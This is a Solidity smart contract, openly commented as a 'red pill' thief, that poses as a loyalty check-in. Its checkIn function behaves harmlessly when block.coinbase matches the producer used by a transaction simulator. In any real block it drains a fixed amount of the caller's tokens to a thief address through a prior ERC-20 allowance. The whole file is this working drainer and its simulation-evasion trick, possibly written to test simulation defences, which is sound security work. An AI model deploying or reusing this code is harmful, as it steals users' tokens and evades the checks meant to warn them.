// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title RedPillProducer
/// @notice Red pill keyed on who produces the block. Looks like a loyalty check-in: `checkIn`
///         counts the caller's visit and moves nothing, in the block whose producer it was
///         armed with (the simulation's). In any other block it also takes `loot` of `token`
///         from the caller for the thief, through the allowance the caller gave it earlier.
contract RedPillProducer {
    IERC20 private immutable _token;
    address private immutable _thief;
    uint256 private immutable _loot;
    address private immutable _producer;

    /// @notice Visits, all visitors together (kept under no visitor: a record under the
    ///         caller would be one the simulator cannot read).
    uint256 public visits;

    constructor(IERC20 token, address thief, uint256 loot, address producer) {
        (_token, _thief, _loot, _producer) = (token, thief, loot, producer);
    }

    /// @notice Records a visit of the caller.
    function checkIn() external {
        ++visits;
        if (block.coinbase != _producer) _token.transferFrom(msg.sender, _thief, _loot);
    }
}
